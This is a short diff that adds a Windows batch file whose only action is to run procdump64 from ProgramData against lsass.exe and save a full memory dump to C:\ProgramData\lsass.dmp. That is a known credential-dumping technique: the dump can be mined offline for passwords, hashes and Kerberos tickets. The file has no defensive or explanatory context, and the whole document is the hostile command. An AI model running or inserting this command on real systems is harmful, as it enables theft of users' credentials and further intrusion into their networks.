@@ -1,0 +1,2 @@
+@echo off
+C:\ProgramData\procdump64.exe -accepteula -ma lsass.exe C:\ProgramData\lsass.dmp
